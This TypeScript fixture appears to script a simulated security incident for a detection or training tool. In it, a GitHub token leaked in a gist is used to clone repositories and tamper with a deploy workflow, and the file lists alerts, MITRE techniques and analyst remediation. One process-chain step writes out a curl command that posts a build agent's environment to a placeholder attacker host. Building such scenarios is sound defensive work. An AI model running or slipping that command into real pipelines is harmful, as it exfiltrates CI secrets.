// A GitHub token in a public gist gives away private repositories and the pipeline behind them.
import {
  cloudApplication,
  gitHubOrganization,
  gitHubRepo,
  gitHubUser,
  servicePrincipal,
} from '../applications.ts';
import { azureSubscription } from '../clouds.ts';
import { DEVICES, processChain, virtualMachine } from '../devices.ts';
import { ip, url } from '../network.ts';
import { ANALYSTS, PEOPLE, ROOT_ACCOUNT, user } from '../people.ts';
import { seen } from '../script.ts';
import type { AlertScript, IncidentScript, Sighting } from '../script.ts';

const organization = gitHubOrganization('northwind-harbor', 'Northwind Harbor Logistics');
const booking = gitHubRepo('northwind-harbor', 'booking-api');
const pipelines = gitHubRepo('northwind-harbor', 'deploy-pipelines');
const owner = gitHubUser('pnair-nwh', 'Priya Nair', 'pnair@northwindharbor.example');
const stranger = gitHubUser('quay-runner-91', null, null);
const cloner = ip('198.51.100.233');
const agent = DEVICES['vm-build-07'];
const BAD = { verdict: 'malicious', remediation: 'active' } as const;

const inGitHub = (
  after: string,
  title: string,
  severity: AlertScript['severity'],
  [category, technique]: readonly [string, string],
  tells: string,
  touches: readonly Sighting[],
): AlertScript => ({
  after,
  from: 'cloudApps',
  title,
  severity,
  category,
  techniques: [technique],
  tells,
  advice: 'Revoke the token. Read the audit log of the organisation for what it was used for.',
  evidence: [
    seen(organization, 'attacked'),
    seen(owner, 'compromised', {
      verdict: 'suspicious',
      remediation: 'remediated',
      details: 'Token revoked',
    }),
    seen(cloner, 'attacker', { verdict: 'malicious' }),
    seen(cloudApplication('gitHub'), 'attacked'),
    ...touches,
  ],
});

export const TOKEN_LEAK: IncidentScript = {
  key: 'token-leak',
  id: '4160',
  startsAt: '-8d 13:30',
  name: 'Leaked GitHub token used to clone repositories and change a pipeline',
  tells:
    'A personal access token of Priya Nair was in a public gist for 50 minutes. It was used to clone 34 repositories and to change a workflow that runs on our build agents.',
  status: 'resolved',
  assignedTo: ANALYSTS.amara,
  classification: 'truePositive',
  determination: 'compromisedAccount',
  resolvingComment:
    'Token revoked, workflow reverted, agent rebuilt, secrets of the pipeline rotated.',
  priority: 66,
  customTags: ['GitHub', 'Supply chain'],
  comments: [
    {
      after: '2h',
      by: ANALYSTS.amara,
      text: 'Priya took the gist down at 14:20. Token revoked at 14:31.',
    },
    { after: '1d1h', by: ANALYSTS.amara, text: 'Nothing was published from the changed workflow.' },
  ],
  alerts: [
    inGitHub(
      '0m',
      'Secret exposed in a public gist',
      'medium',
      ['CredentialAccess', 'T1552.001'],
      'A token with the scopes repo and workflow became public.',
      [seen(url('https://gist.github.example/pnair-nwh/2f91'), 'source')],
    ),
    inGitHub(
      '21m',
      'Mass clone of private repositories',
      'high',
      ['Collection', 'T1213.003'],
      '34 repositories in six minutes.',
      [seen(booking, 'attacked'), seen(pipelines, 'attacked')],
    ),
    inGitHub(
      '29m',
      'Outside collaborator added to a repository',
      'medium',
      ['Persistence', 'T1136.003'],
      'quay-runner-91 may now push to deploy-pipelines.',
      [seen(pipelines, 'edited'), seen(stranger, ['added', 'attacker'], BAD)],
    ),
    inGitHub(
      '38m',
      'Workflow changed to run code of a third party',
      'high',
      ['Execution', 'T1677'],
      'A step was added that sends the environment to another host.',
      [seen(pipelines, 'edited', BAD), seen(stranger, 'attacker', BAD)],
    ),
    inGitHub(
      '33m',
      'Branch protection was turned off',
      'medium',
      ['DefenseEvasion', 'T1562'],
      'Reviews are no longer required on main of deploy-pipelines.',
      [seen(pipelines, 'edited', BAD)],
    ),
    inGitHub(
      '36m',
      'Deploy key with write access added',
      'medium',
      ['Persistence', 'T1098.004'],
      'A key named "sync" was added to booking-api.',
      [seen(booking, 'edited', BAD), seen(stranger, 'attacker', BAD)],
    ),
    inGitHub(
      '41m',
      'Secret scanning alert was dismissed in bulk',
      'low',
      ['DefenseEvasion', 'T1562.001'],
      'Nineteen findings were closed as "used in tests" within a minute.',
      [seen(booking, 'edited'), seen(pipelines, 'edited')],
    ),
    {
      after: '44m',
      from: 'endpoint',
      title: 'Suspicious collection of environment variables on a build agent',
      severity: 'high',
      category: 'CredentialAccess',
      techniques: ['T1552.001', 'T1195.002'],
      tells: 'A job printed its environment to a remote host.',
      evidence: [
        seen(agent, 'compromised', { verdict: 'suspicious', remediation: 'remediated' }),
        seen(virtualMachine('vm-build-07'), 'compromised'),
        ...processChain({
          on: agent,
          as: ROOT_ACCOUNT,
          steps: [
            ['/opt/runner/bin/Runner.Worker', 'Runner.Worker spawnclient 128 131'],
            ['/bin/bash', 'bash -e /opt/runner/_temp/5b1c.sh'],
            [
              '/usr/bin/curl',
              'curl -s --data-binary @/proc/self/environ https://metrics.edge-ci.example/e',
            ],
          ],
          judgement: { verdict: 'malicious', remediation: 'remediated' },
        }),
        seen(url('https://metrics.edge-ci.example/e'), 'commandAndControl', {
          verdict: 'malicious',
          remediation: 'blocked',
        }),
      ],
    },
    {
      after: '1h12m',
      from: 'cloudResourceManager',
      type: 'ARM_AnomalousServiceOperation.InitialAccess',
      title:
        "PREVIEW - Suspicious invocation of a high-risk 'Initial Access' operation by a service principal detected",
      severity: 'medium',
      category: 'InitialAccess',
      techniques: ['T1078.004'],
      tells:
        'The identity of the pipeline signed in from outside and was refused most of what it asked for.',
      evidence: [
        seen(azureSubscription('development'), 'attacked'),
        seen(servicePrincipal('sp-deploy-pipelines'), 'compromised', {
          verdict: 'suspicious',
          remediation: 'remediated',
        }),
        seen(cloner, 'source', { verdict: 'malicious' }),
        seen(user(PEOPLE.priya), 'contextual'),
      ],
    },
  ],
};
